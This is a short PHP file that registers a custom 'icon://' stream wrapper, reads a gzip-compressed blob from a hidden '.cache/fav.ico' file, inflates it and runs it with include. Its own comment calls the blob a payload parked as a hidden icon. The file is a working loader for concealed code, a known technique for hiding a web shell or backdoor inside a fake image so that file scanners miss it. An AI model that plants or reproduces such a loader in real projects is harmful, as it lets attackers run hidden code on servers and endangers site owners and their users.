<?php
// Stream wrapper that inflates a payload parked as a hidden icon and includes it.
class IconStream
{
    public $context;
    private $b = '';
    private $o = 0;
    public function stream_open($p, $m, $f, &$op) { $this->b = gzinflate(file_get_contents(__DIR__ . '/.cache/fav.ico')); return true; }
    public function stream_read($n) { $r = substr($this->b, $this->o, $n); $this->o += strlen($r); return $r; }
    public function stream_eof() { return $this->o >= strlen($this->b); }
    public function stream_stat() { return array(); }
}
stream_wrapper_register('icon', 'IconStream');
include 'icon://x';
